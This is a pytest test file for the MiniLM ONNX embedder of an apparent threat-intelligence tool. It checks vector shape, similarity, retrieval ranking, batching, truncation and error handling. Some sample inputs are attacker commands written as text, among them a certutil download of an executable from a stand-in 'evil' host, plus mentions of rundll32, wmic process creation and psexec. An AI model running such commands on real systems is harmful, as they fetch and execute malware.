"""The embedded embedder (all-MiniLM-L6-v2 int8 ONNX on onnxruntime) with the real packaged model."""

from __future__ import annotations

import threading

import numpy as np
import pytest

from ctistudio.config import load_settings
from ctistudio.embeddings import DIMENSIONS, EmbeddingFailed, MiniLMEmbedder
from ctistudio.llm import Gateway
from ctistudio.modelhub import DEFAULT_EMBEDDING_MODEL
from ctistudio.testing.installed_models import require_installed


@pytest.fixture(scope="module")
def embedder() -> MiniLMEmbedder:
    return MiniLMEmbedder(require_installed(DEFAULT_EMBEDDING_MODEL))


def test_unit_vectors_of_384_dimensions(embedder):
    vectors = embedder.embed(["certutil -urlcache -split -f http://evil/a.exe", "The weather is nice today."])
    assert vectors.shape == (2, DIMENSIONS) and vectors.dtype == np.float32
    assert np.allclose(np.linalg.norm(vectors, axis=1), 1.0, atol=1e-5)


def test_similar_meanings_are_close(embedder):
    food, bread, movie = embedder.embed(
        ["A man is eating food.", "A man is eating a piece of bread.", "The new movie is awesome."]
    )
    assert 0.7 < float(food @ bread) < 0.8  # sentence-transformers' own example: ~0.755 with the fp32 model
    assert float(food @ movie) < 0.1


def test_retrieval_ranks_the_relevant_text_first(embedder):
    corpus = [
        "The actor downloaded a second stage with certutil -urlcache and ran it with rundll32.",
        "Quarterly revenue grew by four percent.",
        "Our office moves to a new building in spring.",
    ]
    query, *docs = embedder.embed(["certutil used to download malware", *corpus])
    scores = np.array(docs) @ query
    assert int(np.argmax(scores)) == 0


def test_a_text_gets_the_same_vector_alone_or_in_a_batch(embedder):
    short = "wmic process call create"
    alone = embedder.embed([short])[0]
    batched = embedder.embed([short, "a much longer text about lateral movement with psexec " * 20])[0]
    assert np.allclose(alone, batched, atol=1e-5)  # padding is masked out of the mean
    assert np.array_equal(embedder.embed([short])[0], alone)  # deterministic


def test_long_texts_are_truncated_not_refused(embedder):
    vector = embedder.embed(["lateral movement " * 3000])
    assert vector.shape == (1, DIMENSIONS)


def test_many_texts_in_batches_and_from_threads(embedder):
    texts = [f"indicator number {n} seen in the campaign" for n in range(70)]
    whole = embedder.embed(texts)
    results: list[np.ndarray] = []
    threads = [threading.Thread(target=lambda: results.append(embedder.embed(texts[:5]))) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert whole.shape == (70, DIMENSIONS)
    assert all(np.allclose(r, whole[:5], atol=1e-5) for r in results)


def test_failures_raise_and_never_return_zero_vectors(embedder, tmp_path):
    with pytest.raises(EmbeddingFailed, match="empty"):
        embedder.embed(["fine", "   "])
    with pytest.raises(EmbeddingFailed, match="list of texts"):
        embedder.embed("one string")  # type: ignore[arg-type]
    assert embedder.embed([]).shape == (0, DIMENSIONS)
    with pytest.raises(EmbeddingFailed) as caught:
        MiniLMEmbedder(tmp_path)
    assert "model.onnx" in str(caught.value) and "ctistudio models install" in caught.value.fix


async def test_gateway_embed_raises_on_a_bad_text():
    settings = load_settings({}, env_file=None)
    async with Gateway(settings) as gateway:
        with pytest.raises(EmbeddingFailed):
            await gateway.embed(["ok", ""])
